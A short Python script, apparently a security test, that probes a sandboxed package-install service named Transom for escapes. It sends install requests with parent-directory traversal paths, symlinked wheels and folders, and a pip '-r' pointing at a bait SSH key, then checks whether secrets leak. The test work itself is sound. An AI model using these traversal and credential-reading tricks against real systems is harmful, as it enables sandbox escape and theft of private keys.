"""Asks Transom itself, not by its pip, for files outside its folder: by paths that go up, by links, as wheels."""

import json
import os
import socket

from attack import BAIT, attack, every, is_secret, job_folder, told


def ask(facts):
    with socket.socket(socket.AF_UNIX) as made:
        made.settimeout(5)
        made.connect(os.environ.get("TRANSOM_LINK") or os.path.join(job_folder(), "link"))
        made.sendall(json.dumps({"question": "packages/install", "facts": facts}).encode() + b"\n")
        answer = b"".join(iter(lambda: made.recv(65536), b""))
    print(answer[:300])
    return told("an answer", answer[:500]) if is_secret(answer) or b'"added"' in answer else ""


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    wheel = BAIT["foreign_wheel"]
    os.symlink(wheel, os.path.basename(wheel))
    os.symlink(os.path.dirname(wheel), "folder")
    up = os.path.relpath(wheel, os.getcwd())
    name = os.path.basename(wheel)
    places = [up, wheel, name, f"folder/{name}", f"Script Bundle/../{up}"]
    questions = [{"arguments": ["--no-index", f"./{name}"], "places": {f"./{name}": place}} for place in places]
    questions.append({"arguments": ["--no-index", "--find-links", "folder", "hostile"], "places": {"folder": "folder"}})
    questions.append({"arguments": ["--no-index", "-r", BAIT["ssh_key"]], "texts": {}})
    return every(ask, questions)
